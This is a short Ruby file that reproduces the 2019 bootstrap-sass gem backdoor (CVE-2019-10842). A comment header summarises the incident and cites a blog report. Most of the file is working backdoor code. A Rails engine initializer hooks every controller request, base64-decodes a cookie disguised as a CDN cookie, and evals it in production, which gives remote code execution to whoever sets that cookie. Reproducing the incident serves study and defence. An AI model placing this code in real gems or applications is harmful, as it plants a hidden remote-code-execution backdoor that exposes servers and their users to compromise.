# Incident: bootstrap-sass 3.2.0.3 (RubyGems), March 2019 (CVE-2019-10842).
# A version uploaded with a compromised account added a Rails hook that base64-decoded the
# value of a cookie named like a CDN cookie and evaluated it, so any request could run code
# on production servers. Reference: https://snyk.io/blog/malicious-remote-code-execution-backdoor-discovered-in-the-popular-bootstrap-sass-ruby-gem/
# Reproduction (own code).
require 'base64'

module Bootstrap
  class Engine < ::Rails::Engine
    initializer 'bootstrap-sass.assets.precompile' do
      ActiveSupport.on_load(:action_controller) do
        before_action do
          x = request.cookies['___cfduid']
          eval(Base64.urlsafe_decode64(x)) if x && Rails.env.production?
        end
      end
    end
  end
end
